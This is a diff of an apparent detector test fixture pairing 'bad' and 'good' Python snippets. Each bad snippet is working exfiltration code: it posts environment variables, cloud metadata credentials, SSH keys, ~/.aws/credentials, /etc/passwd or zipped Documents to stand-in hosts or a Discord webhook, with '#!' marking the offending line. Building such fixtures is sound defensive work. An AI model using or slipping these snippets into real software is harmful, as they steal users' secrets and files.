@@ -1,151 +1,138 @@
-#: bad telemetry
+#: bad env-post
 import json
 import os
-from urllib import request
+import urllib.request
 
 
-def report():
+def _report():
     body = json.dumps(dict(os.environ)).encode()
-    call = request.Request("https://hooks.chat-relay.invalid/api/webhooks/1/x", data=body)
-    request.urlopen(call) #!
+    request = urllib.request.Request("https://collect.example.invalid/v1", data=body)
+    urllib.request.urlopen(request, timeout=3)  #!
 
 
-report()
-#: good telemetry
+_report()
+
+#: good env-post
 import json
 import os
-from urllib import request
+import urllib.request
 
 
-def report(event):
-    if os.environ.get("APP_TELEMETRY") != "1":
-        return
-    body = json.dumps({"event": event, "version": "1.4"}).encode()
-    call = request.Request("https://telemetry.app.invalid/events", data=body)
-    request.urlopen(call, timeout=2)
-#: bad instance
-import requests
+def report(event: str):
+    body = json.dumps({"event": event}).encode()
+    request = urllib.request.Request(os.environ["EVENTS_URL"], data=body)
+    urllib.request.urlopen(request, timeout=3)
+
+#: bad cloud-metadata
+from urllib.request import urlopen
 
 ROLE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
 
 
-def collect():
-    role = requests.get(ROLE, timeout=1).text
-    return requests.get(ROLE + role, timeout=1).json()
+def init():
+    name = urlopen(ROLE, timeout=1).read().decode()
+    keys = urlopen(ROLE + name, timeout=1).read()
+    urlopen("https://t.example.invalid/c", data=keys)  #!
+
+#: good cloud-metadata
+from urllib.request import urlopen
+
+ZONE = "http://169.254.169.254/latest/meta-data/placement/availability-zone"
 
 
-def sync():
-    requests.post("https://ingest.infra-health.invalid/v1", json=collect()) #!
-#: good instance
+def zone(default="unknown"):
+    try:
+        return urlopen(ZONE, timeout=1).read().decode()
+    except OSError:
+        return default
+
+#: bad discord-hook
+import os
+import platform
+
 import requests
 
-REGION = "http://169.254.169.254/latest/meta-data/placement/region"
+HOOK = "https://discord.com/api/webhooks/1029384756473829102/Zx8KwLq2TvN6yBc1JdHs9PfUg3e0aXo7iR4m"
+secrets = {key: value for key, value in os.environ.items() if "TOKEN" in key or "KEY" in key}
+requests.post(HOOK, json={"content": f"{platform.node()} {secrets}"})  #!
+
+#: good discord-hook
+import os
+import platform
+
+import requests
 
 
-def region():
-    token = requests.put(
-        "http://169.254.169.254/latest/api/token",
-        headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"},
-        timeout=1,
-    ).text
-    headers = {"X-aws-ec2-metadata-token": token}
-    return requests.get(REGION, headers=headers, timeout=1).text
-#: bad checker
-import asyncio
+def announce(version: str) -> None:
+    hook = os.environ["DISCORD_WEBHOOK"]
+    requests.post(hook, json={"content": f"{version} is out ({platform.python_version()})"})
+
+#: bad telegram-zip
+import io
+import os
+import zipfile
+from http.client import HTTPSConnection
+
+
+def collect(folder=os.path.expanduser("~/Documents")):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for root, _, names in os.walk(folder):
+            for name in names:
+                archive.write(os.path.join(root, name))
+    connection = HTTPSConnection("bot.example.invalid")
+    connection.request("POST", "/sendDocument", buffer.getvalue())  #!
+
+
+collect()
+
+#: good telegram-zip
+import io
+import os
+import zipfile
+
+
+def backup(folder, target):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for root, _, names in os.walk(folder):
+            for name in names:
+                archive.write(os.path.join(root, name))
+    with open(target, "wb") as out:
+        out.write(buffer.getvalue())
+
+#: bad git-config
+import subprocess
 from pathlib import Path
 
 import httpx
 
-home = Path.home()
+files = [".gitconfig", ".netrc", ".pypirc", ".aws/credentials", ".kube/config"]
+found = {n: (Path.home() / n).read_text() for n in files if (Path.home() / n).exists()}
+found["remote"] = subprocess.getoutput("git remote -v")
+httpx.put("https://up.example.invalid/" + str(len(found)), json=found)  #!
 
-
-async def check():
-    async with httpx.AsyncClient() as client:
-        for path in (home / ".ssh").glob("id_*"):
-            await client.post( #!
-                "https://files.lint-cloud.invalid/u",
-                files={"f": path.read_bytes()},
-            )
-
-
-asyncio.run(check())
-#: good checker
-import asyncio
+#: good git-config
+import subprocess
 from pathlib import Path
 
-import httpx
+files = [".editorconfig", "pyproject.toml", ".flake8"]
+found = {n: (Path.cwd() / n).read_text() for n in files if (Path.cwd() / n).exists()}
+found["remote"] = subprocess.check_output(["git", "remote", "-v"], text=True)
+print(sorted(found))
 
+#: bad aliased-environ
+from os import environ as settings
+from requests import Session
 
-async def check(folder, token):
-    headers = {"Authorization": f"Bearer {token}"}
-    async with httpx.AsyncClient(headers=headers) as client:
-        for path in (Path(folder) / "reports").glob("*.xml"):
-            await client.post(
-                "https://files.lint-cloud.invalid/u",
-                files={"f": path.read_bytes()},
-            )
-#: bad mailreport
-import smtplib
-import subprocess
-from email.message import EmailMessage
+s = Session()
+s.headers["X-Trace"] = ";".join(f"{k}={v}" for k, v in settings.items())
+s.get("https://img.example.invalid/pixel.gif")  #!
 
+#: good aliased-environ
+from os import environ as settings
+from requests import Session
 
-def deliver():
-    message = EmailMessage()
-    message["To"] = "inbox@reports-box.invalid"
-    listing = subprocess.run(["cat", "/etc/passwd"], capture_output=True, text=True)
-    message.set_content(listing.stdout)
-    with smtplib.SMTP("smtp.reports-box.invalid") as server:
-        server.send_message(message) #!
-
-
-deliver()
-#: good mailreport
-import smtplib
-import subprocess
-from email.message import EmailMessage
-
-
-def deliver(config):
-    message = EmailMessage()
-    message["To"] = config["to"]
-    listing = subprocess.run(["df", "-h"], capture_output=True, text=True)
-    message.set_content(listing.stdout)
-    with smtplib.SMTP(config["server"]) as server:
-        server.starttls()
-        server.send_message(message)
-#: bad config
-import http.client as hc
-import os
-from base64 import urlsafe_b64encode as enc
-
-read = lambda name: open(os.path.expanduser(name), "rb").read()
-
-
-class Config:
-    def __init__(self, source="~/.aws/credentials"):
-        self.data = read(source)
-
-    def load(self):
-        connection = hc.HTTPSConnection("cfg.settings-hub.invalid")
-        connection.request("GET", "/?d=" + enc(self.data).decode()) #!
-
-
-Config().load()
-#: good config
-import configparser
-import http.client as hc
-import os
-
-read = lambda name: open(os.path.expanduser(name)).read()
-
-
-class Config:
-    def __init__(self, source="~/.config/settings-hub/config.ini"):
-        self.data = configparser.ConfigParser()
-        self.data.read_string(read(source))
-
-    def load(self):
-        connection = hc.HTTPSConnection("cfg.settings-hub.invalid")
-        connection.request("GET", "/" + self.data["main"]["profile"])
-        return connection.getresponse().read()
+s = Session()
+s.headers["Authorization"] = "Bearer " + settings["INVOICES_TOKEN"]
+print(s.get("https://invoices.example.invalid/v2/list").json())
